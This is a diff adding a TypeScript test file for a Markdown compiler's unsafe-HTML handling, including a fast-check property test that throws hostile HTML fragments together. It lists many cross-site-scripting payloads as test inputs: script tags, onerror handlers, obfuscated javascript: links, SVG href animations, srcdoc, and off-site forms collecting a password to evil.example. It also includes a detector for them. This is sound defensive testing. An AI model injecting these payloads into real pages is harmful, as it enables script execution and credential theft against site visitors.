@@ -1,0 +1,150 @@
+/**
+ * Unsafe HTML in Markdown, under either `markdown.html` policy: each form is a located `html-unsafe` error and
+ * never reaches the page; `data:image/…` images, https iframes and same-site forms stay; unreadable `style`
+ * attributes and tag names React cannot render warn and are left out. A property test throws hostile HTML
+ * pieces together and checks that nothing unsafe is ever rendered.
+ */
+import fc from 'fast-check';
+import type { Element } from 'hast';
+import { fromHtml } from 'hast-util-from-html';
+import { visit } from 'unist-util-visit';
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '../../../../src/markdown/compile.js';
+import { compile } from '../../../support/markdown.js';
+
+/** `code line:column` of each diagnostic; the page starts on line 5 (four front-matter lines). */
+const where = (markdown: string) => compile(markdown).diagnostics.map((d) => `${d.code} ${d.line}:${d.column}`);
+
+describe('unsafe HTML', () => {
+  const cases: Array<[string, string, RegExp, string, number?]> = [
+    ['a script', 'Text\n\n<script>alert(1)</script>', /`<script>` is not allowed/, '<script'],
+    ['an SVG script', 'Text\n\n<svg><script>alert(1)</script></svg>', /`<script>` is not allowed/, '<script', 6],
+    ['a style sheet import', 'Text\n\n<style>@import url(https://evil.example/x.css);</style>', /loads another style sheet with `@import`/, '@import'],
+    ['an escaped import', 'Text\n\n<style>@\\69mport url(https://evil.example/x.css);</style>', /`@import`/, 'evil'],
+    ['an event handler', 'Text\n\n<img src="/x.png" onerror="alert(1)">', /event handler attribute `onerror` on `<img>`/, 'onerror'],
+    ['a javascript: link', 'Text\n\n<a href="javascript:alert(1)">x</a>', /`<a href="javascript:alert\(1\)">` uses the `javascript:` scheme/, 'javascript:'],
+    ['a scheme hidden by a tab and a reference', 'Text\n\n<a href="java&#9;script&colon;alert(1)">x</a>', /`javascript:` scheme/, 'alert'],
+    ['a vbscript: source', 'Text\n\n<iframe src="vbscript:x"></iframe>', /`vbscript:` scheme/, 'vbscript'],
+    ['a data: frame', 'Text\n\n<iframe src="data:text/html,<b>x</b>"></iframe>', /`data:` scheme/, 'data:'],
+    ['a data: link', 'Text\n\n<a href="data:image/png;base64,AA">x</a>', /`data:` scheme/, 'data:'],
+    ['an SVG xlink:href', 'Text\n\n<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', /`<a xlink:href="javascript:alert\(1\)">`/, 'javascript', 6],
+    ['an SVG animation of href', 'Text\n\n<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', /changes a link's `href`/, 'animate', 9],
+    ['srcdoc', 'Text\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>', /`<iframe srcdoc>`/, 'srcdoc'],
+    ['an object', 'Text\n\n<object data="/x.swf"></object>', /`<object>` is not allowed/, '<object'],
+    ['an embed', 'Text\n\n<embed src="/x.swf">', /`<embed>` is not allowed/, '<embed'],
+    ['a base', 'Text\n\n<base href="https://evil.example/">', /`<base>` is not allowed/, '<base'],
+    ['a meta refresh', 'Text\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">', /`<meta http-equiv>` is not allowed/, 'refresh'],
+    ['a style sheet link', 'Text\n\n<link rel="stylesheet" href="https://evil.example/x.css">', /`<link rel>` is not allowed/, 'evil'],
+    ['an off-site form', 'Text\n\n<form action="https://evil.example/collect"><input name="password"></form>', /sends what readers type to another site/, 'evil'],
+    ['an off-site formaction', 'Text\n\n<form><button formaction="//evil.example/c">Go</button></form>', /`<button formaction="\/\/evil.example\/c">`/, 'evil', 7],
+    ['a docsgen element', 'Text\n\n<docsgen-card title="x" href="/guide/cycles">y</docsgen-card>', /`<docsgen-card>` is a name docsgen keeps/, 'docsgen-card'],
+  ];
+
+  it.each(cases)('rejects %s at its line and column and renders none of it', (_name, markdown, message, leftOut, column = 1) => {
+    const result = compile(markdown);
+    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}:${d.column}`)).toEqual([`html-unsafe error 7:${column}`]);
+    expect(result.diagnostics[0]!.message).toMatch(message);
+    expect(result.bodyHtml).not.toContain(leftOut);
+  });
+
+  it('locates inline HTML at its column and each problem of a page at its own line', () => {
+    expect(where('A <b onclick="x()">bold</b> move.\n\nThen <a href="javascript:void(0)">this</a>\nand <img src=x onload=y>.')).toEqual([
+      'html-unsafe 5:3',
+      'html-unsafe 7:6',
+      'html-unsafe 8:5',
+    ]);
+  });
+
+  it('reports a misnested tag the parser copies only once', () => {
+    expect(where('<b onclick="x">a<p>b</b>c')).toEqual(['html-unsafe 5:1']);
+  });
+
+  it('rejects unsafe HTML under markdown.html: reject too (as raw HTML)', () => {
+    const result = compile('<script>alert(1)</script>', { site: { baseUrl: '/', routeOfSourcePath: new Map(), html: 'reject' } });
+    expect(result.diagnostics.map((d) => d.code)).toEqual(['raw-html']);
+    expect(result.bodyHtml).not.toContain('alert');
+  });
+
+  it('keeps data:image images, https iframes, same-site forms and plain styles', () => {
+    const result = compile(
+      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">\n\n<iframe src="https://www.youtube.com/embed/abc"></iframe>\n\n<form action="/search"><input name="q"></form>\n\n<style>.x { color: red }</style>',
+    );
+    expect(result.diagnostics).toEqual([]);
+    expect(result.bodyHtml).toContain('src="data:image/png;base64,iVBORw0KGgo="');
+    expect(result.bodyHtml).toContain('<iframe src="https://www.youtube.com/embed/abc"></iframe>');
+    expect(result.bodyHtml).toContain('<form action="/search">');
+    expect(result.bodyHtml).toContain('.x { color: red }');
+  });
+
+  it('warns about a style attribute React cannot read and leaves it out', () => {
+    const result = compile('<p style="color red">x</p>');
+    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}:${d.column}`)).toEqual(['html-style-invalid warning 5:1']);
+    expect(result.bodyHtml).toBe('<p>x</p>');
+  });
+
+  it('warns about a tag name React cannot render and keeps its content', () => {
+    const result = compile('<div>\n<a<b>text</a<b>\n</div>');
+    expect(result.diagnostics.map((d) => `${d.code} ${d.severity} ${d.line}:${d.column}`)).toEqual(['html-tag-invalid warning 6:1']);
+    expect(result.bodyHtml).toContain('text');
+  });
+
+  it('renders what React would refuse the way a browser shows it', () => {
+    expect(renderMarkdown('<textarea value="ignored">shown</textarea>')).toBe('<textarea>shown</textarea>');
+    expect(renderMarkdown('<svg><area>x</area></svg>')).toBe('<p><svg><area/>x</svg></p>');
+  });
+});
+
+describe('hostile HTML, thrown together', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(
+      '<script>', '</script>', '<img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">', '<a href=" JaVa\tScRiPt:1">', '<a href="&#106;avascript:1">',
+      '<svg>', '</svg>', '<math>', '<a xlink:href="javascript:1">', '<animate attributeName=href to=javascript:1>', '<set attributeName="xlink:href" to="javascript:1">',
+      '<iframe srcdoc="<script>">', '<iframe src="data:text/html,x">', '<object data=x>', '<embed src=x>', '<base href=//evil>', '<meta http-equiv=refresh content=0>',
+      '<link rel=stylesheet href=//evil>', '<style>@import url(//evil)</style>', '<style>', '</style>', '<form action=//evil>', '<button formaction=//evil>',
+      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea value=x>', '</textarea>', '<title>', '<xmp>', '<!--', '-->', '<![CDATA[', ']]>',
+      '<docsgen-card href="javascript:1">', '<img srcset="javascript:1 1x">', '<video poster="javascript:1">', '<area href="javascript:1">', '<input>', '<br>', '<a<b>',
+      '<table><tr><td>', '<template>', '<select>', '<option>', '<div>', '</div>', '<p>', '<b>', '<a>', '"', "'", '<', '>', '\n', '\n\n', '`', 'onclick=x ', 'style="color red"',
+    ),
+    fc.string({ maxLength: 6 }),
+  );
+  const URL_PROPERTIES = new Set(['href', 'src', 'srcSet', 'action', 'formAction', 'xLinkHref', 'poster', 'data']);
+
+  function unsafeIn(html: string): string | null {
+    let found: string | null = null;
+    visit(fromHtml(html, { fragment: true }), 'element', (node: Element) => {
+      const props = node.properties;
+      if (['script', 'object', 'embed', 'applet', 'base', 'frame', 'frameset'].includes(node.tagName)) found = `<${node.tagName}>`;
+      if (node.tagName === 'meta' && props.httpEquiv != null) found = 'meta http-equiv';
+      // React adds `<link rel="preload" as="image">` for images itself.
+      if (node.tagName === 'link' && props.rel != null && String(props.rel) !== 'preload') found = 'link rel';
+      if (node.tagName === 'iframe' && props.srcDoc != null) found = 'srcdoc';
+      if (node.tagName === 'style' && /@import/i.test(JSON.stringify(node.children))) found = '@import';
+      if ((node.tagName === 'animate' || node.tagName === 'set') && /href/i.test(String(props.attributeName))) found = 'href animation';
+      for (const [name, value] of Object.entries(props)) {
+        if (/^on/i.test(name)) found = name;
+        if (!URL_PROPERTIES.has(name)) continue;
+        for (const url of [value].flat().map((v) => String(v).replace(/[\u0000-\u0020]/g, ''))) {
+          if (/^(javascript|vbscript|data):/i.test(url) && !(node.tagName === 'img' && /^data:image\//i.test(url))) found = `${name}=${url}`;
+          if ((name === 'action' || name === 'formAction') && /^([a-z]+:|\/\/)/i.test(url)) found = `${name}=${url}`;
+        }
+      }
+    });
+    return found;
+  }
+
+  it('never renders anything unsafe, and never crashes', () => {
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join('')), (markdown) => {
+        const html = renderMarkdown(markdown);
+        expect(unsafeIn(html), `${JSON.stringify(markdown)} → ${html}`).toBeNull();
+      }),
+      { seed: 20261123, numRuns: 400 },
+    );
+  });
+
+  it('sees what it looks for', () => {
+    expect(unsafeIn('<a href="java\tscript:1">x</a>')).toBe('href=javascript:1');
+    expect(unsafeIn('<img src=x onerror=y>')).toBe('onError');
+    expect(unsafeIn('<img src="data:image/png;base64,AA">')).toBeNull();
+  });
+});
